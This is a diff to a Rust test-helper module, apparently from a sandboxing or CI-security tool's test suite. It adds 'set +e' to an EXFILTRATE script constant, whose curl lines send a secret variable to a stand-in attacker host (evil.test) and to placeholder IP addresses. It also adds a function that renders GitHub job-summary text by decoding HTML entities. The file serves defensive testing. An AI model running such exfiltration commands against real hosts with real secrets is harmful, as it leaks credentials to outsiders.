@@ -281,6 +281,7 @@ pub(crate) fn call(name: &str) -> String {
 
 /// A script that sends the secret to the attacker in several ways; always succeeds.
 pub(crate) const EXFILTRATE: &str = r#"
+set +e
 curl -sS --max-time 3 "https://evil.test/$S"
 curl -sSk --max-time 3 "https://203.0.113.66/$S"
 curl -sSk --max-time 3 "https://[2001:db8::66]/$S"
@@ -308,4 +309,21 @@ pub(crate) fn wait_gone(pid: u32) -> Result<()> {
             stat.rsplit_once(") ").is_some_and(|(_, rest)| rest.starts_with('Z'))
         })
     })
+}
+
+/// The text of a job summary as GitHub shows it.
+pub(crate) fn shown(markdown: &str) -> String {
+    let mut out = String::new();
+    let mut rest = markdown;
+    while let Some((before, after)) = rest.split_once("&#") {
+        out.push_str(before);
+        let Some((digits, after)) = after.split_once(';') else { break };
+        match digits.parse().ok().and_then(char::from_u32) {
+            // The zero-width space that keeps text from becoming a link.
+            Some('\u{200b}') | None => {}
+            Some(character) => out.push(character),
+        }
+        rest = after;
+    }
+    out + rest
 }
